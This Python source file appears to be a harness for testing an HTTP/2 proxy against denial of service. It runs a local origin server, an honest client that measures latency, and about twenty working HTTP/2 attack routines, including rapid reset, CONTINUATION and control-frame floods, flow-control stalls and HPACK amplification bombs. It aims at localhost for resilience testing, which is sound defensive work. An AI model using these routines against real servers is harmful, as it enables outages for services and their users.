"""What an attack is made of: an origin that counts, attackers on HTTP/2, honest clients. Each runs as a process of its own.

    python3 hostile.py origin PORT
    python3 hostile.py honest PORT          # a line of milliseconds for each line of input
    python3 hostile.py attack NAME PORT SECONDS
"""

import asyncio
import os
import select
import socket
import ssl
import sys
import time

BIG = 64 << 20


# The origin: `/attack` is counted, `/slow` too and takes its time, `/big` has 64 MiB, `/count` tells.

class Origin:
    def __init__(self):
        self.attacked = 0

    async def serve(self, reader, writer):
        try:
            while head := await reader.readuntil(b"\r\n\r\n"):
                lines = head.lower().split(b"\r\n")
                path = lines[0].split()[1]
                length = [int(line[15:]) for line in lines if line.startswith(b"content-length:")]
                if length:
                    await reader.readexactly(length[0])
                elif b"transfer-encoding: chunked" in lines:
                    await self.chunks(reader)
                await self.answer(path, writer)
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    async def chunks(self, reader):
        while size := int((await reader.readline()).strip(), 16):
            await reader.readexactly(size + 2)
        await reader.readline()

    async def answer(self, path, writer):
        if path == b"/count":
            body = str(self.attacked).encode()
        elif path == b"/big":
            writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n" % BIG)
            for _ in range(BIG >> 16):
                writer.write(bytes(1 << 16))
                await writer.drain()
            return
        else:
            self.attacked += path in (b"/attack", b"/slow")
            if path == b"/slow":
                await asyncio.sleep(3)
            body = b"x" * 1024
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n" % len(body) + body)
        await writer.drain()


async def origin(port):
    async with await asyncio.start_server(Origin().serve, "127.0.0.1", port, backlog=4096) as server:
        await server.serve_forever()


# An honest client: HTTP/1.1, one connection, a request every 20 ms whatever became of the one before.

def connect(port, protocol):
    trust = ssl.create_default_context()
    trust.check_hostname, trust.verify_mode = False, ssl.CERT_NONE
    trust.set_alpn_protocols([protocol])
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return trust.wrap_socket(raw, server_hostname="localhost")


def honest(port):
    """For each line with a number of seconds: the times of the answers, and an empty line for what was not answered."""
    held = connect(port, "http/1.1")
    for line in sys.stdin:
        took, end, due = [], time.monotonic() + float(line), time.monotonic()
        while due < end:
            time.sleep(max(0, due - time.monotonic()))
            try:
                held.sendall(b"GET /good HTTP/1.1\r\nhost: localhost\r\n\r\n")
                got = b""
                while not got.endswith(b"x" * 1024):
                    if not (some := held.recv(1 << 16)):
                        raise OSError("closed")
                    got += some
                took.append(f"{(time.monotonic() - due) * 1000:.3f}")
            except OSError:
                took.append("bad")
                held.close()
                held = connect(port, "http/1.1")
            due += 0.02
        print(" ".join(took), flush=True)


# Attackers.

def frames():
    """What the attacks are built of, where the packages are there."""
    import hpack
    import hyperframe.frame as frame
    return hpack, frame


class Attacker:
    """One connection of HTTP/2 over TLS, which does not block."""

    def __init__(self, port, settings=(), reads=True):
        self.hpack, self.frame = frames()
        self.reads = reads
        self.held = connect(port, "h2")
        self.held.setblocking(False)
        self.is_over = self.held.selected_alpn_protocol() != "h2"
        first = self.frame.SettingsFrame(0, settings=dict(settings))
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + first.serialize())

    def send(self, data, end=None):
        """Sends all of it, and reads what comes meanwhile; `False` once the other side has closed or the time is up."""
        data = memoryview(data)
        while data and not self.is_over:
            try:
                data = data[self.held.send(data):]
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                select.select([self.held] if self.reads else [], [self.held], [], 0.05)
            except OSError:
                self.is_over = True
            self.read()
            if end and time.monotonic() > end:
                return False
        return not self.is_over

    def read(self):
        try:
            while self.reads and not self.is_over:
                self.is_over = not self.held.recv(1 << 16)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.is_over = True

    def hold(self, end):
        """Leaves it open."""
        while not self.is_over and time.monotonic() < end:
            self.read()
            time.sleep(0.02)

    def head(self, stream, path, more=(), method="GET", ends=True, whole=True):
        fields = [(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path), *more]
        block = self.hpack.Encoder().encode(fields)
        return self.headers(stream, block, ends, whole)

    def headers(self, stream, block, ends=True, whole=True):
        """As many frames as a block takes."""
        pieces = [block[at:at + 16384] for at in range(0, len(block), 16384)]
        made = b""
        for number, piece in enumerate(pieces):
            one = (self.frame.ContinuationFrame if number else self.frame.HeadersFrame)(stream, piece)
            if number + 1 == len(pieces) and whole:
                one.flags.add("END_HEADERS")
            if not number and ends:
                one.flags.add("END_STREAM")
            made += one.serialize()
        return made

    def reset(self, stream):
        return self.frame.RstStreamFrame(stream, error_code=8).serialize()

    def window(self, stream, by):
        made = self.frame.WindowUpdateFrame(stream, window_increment=1).serialize()
        return made[:-4] + by.to_bytes(4, "big")


def resets(port, end, path, then):
    """Three thousand requests on one connection, each of which the client ends, or makes us end."""
    attacker = Attacker(port)
    for stream in range(1, 6000, 2):
        if not attacker.send(attacker.head(stream, path) + then(attacker, stream), end):
            break
    attacker.hold(min(end, time.monotonic() + 1))


def flood(port, end, make, start=None):
    """The same frames again and again, on another connection when one ends."""
    while time.monotonic() < end:
        attacker = Attacker(port)
        frames = make(attacker)
        many = frames * max(1, (64 << 10) // len(frames))
        if start:
            attacker.send(start(attacker))
        while attacker.send(many, end) and time.monotonic() < end:
            pass
        attacker.held.close()
        time.sleep(0.01)


def held(port, end, path, settings=(), reads=True, more=(), make=None, drip=None):
    """A hundred requests on one connection that are left as they are."""
    attacker = Attacker(port, settings, reads)
    attacker.send(attacker.window(0, 0x7fff0000 - 65535))
    streams = range(1, 200, 2)
    for stream in streams:
        block = make(attacker, stream) if make else attacker.head(stream, path, more)
        if not attacker.send(block, end):
            break
    while drip and time.monotonic() < end:
        if not attacker.send(b"".join(attacker.window(stream, drip) for stream in streams), end):
            break
    attacker.hold(end)


def bomb(name, value, times):
    """A field that is sent once and meant many times, by its number in the table that both sides keep (RFC 7541)."""
    def make(attacker, stream):
        head = attacker.hpack.Encoder().encode([(":method", "GET"), (":scheme", "https"), (":authority", "localhost"),
                                                (":path", "/slow")])
        literal = b""
        if stream == 1:
            literal = b"\x40" + number(len(name), 7) + name + number(len(value), 7) + value
        # What our encoder put into the table for the head is behind it.
        return attacker.headers(stream, head + literal + b"\xbe" * times if stream == 1 else
                                attacker_head() + b"\xbe" * times)
    return make


def attacker_head():
    """A head of literals that are not kept, so that the table stays as it is."""
    fields = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", b"/slow")]
    return b"".join(b"\x00" + number(len(name), 7) + name + number(len(value), 7) + value for name, value in fields)


def number(value, bits):
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    made, value = [most], value - most
    while value >= 128:
        made.append(value % 128 + 128)
        value //= 128
    return bytes([*made, value])


def data(attacker, stream):
    return attacker.frame.DataFrame(stream, b"x").serialize()


def priority(attacker, stream):
    made = attacker.frame.PriorityFrame(stream, depends_on=0, stream_weight=15).serialize()
    return made[:9] + stream.to_bytes(4, "big") + made[-1:]


WIDE, SHUT = {4: 0x7fffffff}, {4: 0}

ATTACKS = {
    "rapid-reset": ("requests that are reset at once", lambda port, end: resets(port, end, "/attack", Attacker.reset)),
    "rapid-reset-slow": ("the same with a slow origin", lambda port, end: resets(port, end, "/slow", Attacker.reset)),
    "window-zero": ("we are made to reset: a window update of nothing",
                    lambda port, end: resets(port, end, "/slow", lambda a, s: a.window(s, 0))),
    "window-beyond": ("the same: a window beyond 31 bits",
                      lambda port, end: resets(port, end, "/slow", lambda a, s: a.window(s, 0x7fffffff))),
    "half-closed": ("the same: data behind the end", lambda port, end: resets(port, end, "/slow", data)),
    "own-priority": ("the same: a stream that depends on itself", lambda port, end: resets(port, end, "/slow", priority)),
    "continuation": ("a header that does not end",
                     lambda port, end: flood(port, end, lambda a: a.frame.ContinuationFrame(1, b"\x00\x01a\x01b" * 3000).serialize(),
                                             lambda a: a.head(1, "/attack", whole=False))),
    "continuation-empty": ("the same in empty frames",
                           lambda port, end: flood(port, end, lambda a: a.frame.ContinuationFrame(1, b"").serialize(),
                                                   lambda a: a.head(1, "/attack", whole=False))),
    "ping": ("PING", lambda port, end: flood(port, end, lambda a: a.frame.PingFrame(0, b"12345678").serialize())),
    "settings": ("SETTINGS", lambda port, end: flood(port, end, lambda a: a.frame.SettingsFrame(0, settings={3: 100}).serialize())),
    "priority": ("PRIORITY", lambda port, end: flood(port, end, lambda a: a.frame.PriorityFrame(1, depends_on=3).serialize())),
    "window-update": ("WINDOW_UPDATE", lambda port, end: flood(port, end, lambda a: a.window(0, 1))),
    "empty-data": ("empty DATA", lambda port, end: flood(port, end, lambda a: a.frame.DataFrame(1, b"").serialize(),
                                                         lambda a: a.head(1, "/slow", method="POST", ends=False))),
    "unknown": ("frames of unknown types", lambda port, end: flood(port, end, lambda a: b"\0\0\0\xbe\0\0\0\0\0")),
    "tiny-windows": ("windows that open a byte at a time", lambda port, end: held(port, end, "/big", SHUT, drip=1)),
    "zero-windows": ("windows that stay shut", lambda port, end: held(port, end, "/big", SHUT)),
    "unread": ("answers that are not read", lambda port, end: held(port, end, "/big", WIDE, reads=False)),
    "large-fields": ("headers of 30 KiB, held open", lambda port, end: held(port, end, "/slow", more=[("x-a", "x" * 30000)])),
    "many-fields": ("headers of 120 fields, held open",
                    lambda port, end: held(port, end, "/slow", more=[(f"x-{n}", "y" * 200) for n in range(120)])),
    "small-fields": ("a field of one byte, 16 000 times by its number", lambda port, end: held(port, end, "/slow", make=bomb(b"a", b"b", 16000))),
    "large-bomb": ("a field of 4 000 bytes, 16 000 times by its number",
                   lambda port, end: held(port, end, "/slow", make=bomb(b"a", b"b" * 4000, 16000))),
    "crumbs": ("cookies of 120 crumbs, held open", lambda port, end: held(port, end, "/slow", more=[("cookie", f"c{n}=" + "v" * 200) for n in range(120)])),
}


# Those who look like attackers and are none: they must be served.

def uploads(port):
    """An upload in frames of one byte; its status."""
    attacker = Attacker(port)
    head = attacker.head(1, "/good", method="POST", ends=False)
    byte = attacker.frame.DataFrame(1, b"x").serialize()
    end = attacker.frame.DataFrame(1, b"x", flags=["END_STREAM"]).serialize()
    return ask(attacker, head + byte * 20_000 + end)


def crumbs(port):
    """A cookie as a browser sends it, each part in a field of its own; the status of the answer."""
    attacker = Attacker(port)
    return ask(attacker, attacker.head(1, "/good", [("cookie", f"name{n}=value") for n in range(60)]))


def ask(attacker, request):
    """Sends a request on stream 1 and reads the answer's status, or the word for what came instead."""
    attacker.reads = False
    got, end, request = bytearray(), time.monotonic() + 10, memoryview(request)
    decoder = attacker.hpack.Decoder()
    while time.monotonic() < end and not attacker.is_over:
        try:
            if request:
                request = request[attacker.held.send(request):]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            return "closed"
        try:
            some = attacker.held.recv(1 << 16)
            attacker.is_over = not some
            got += some
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            select.select([attacker.held], [attacker.held] if request else [], [], 0.05)
        except OSError:
            return "closed"
        while len(got) >= 9 and len(got) >= 9 + int.from_bytes(got[:3], "big"):
            one, length = attacker.frame.Frame.parse_frame_header(memoryview(bytes(got[:9])))
            payload, got = bytes(got[9:9 + length]), got[9 + length:]
            if isinstance(one, attacker.frame.HeadersFrame):
                return dict(decoder.decode(payload, raw=False))[":status"]
            if isinstance(one, attacker.frame.RstStreamFrame):
                return "reset"
            if isinstance(one, attacker.frame.GoAwayFrame) and int.from_bytes(payload[4:8], "big"):
                return "refused"
    return "closed" if attacker.is_over else "silent"


HONEST = {"an upload in frames of one byte": uploads, "a cookie of 60 crumbs": crumbs}


def main():
    what, *words = sys.argv[1:]
    if what == "origin":
        asyncio.run(origin(int(words[0])))
    elif what == "honest":
        honest(int(words[0]))
    else:
        name, port, seconds = words
        # Who attacks is to wear out the proxy, not the honest client beside it on its CPU.
        os.nice(10)
        ATTACKS[name][1](int(port), time.monotonic() + float(seconds))


if __name__ == "__main__":
    main()
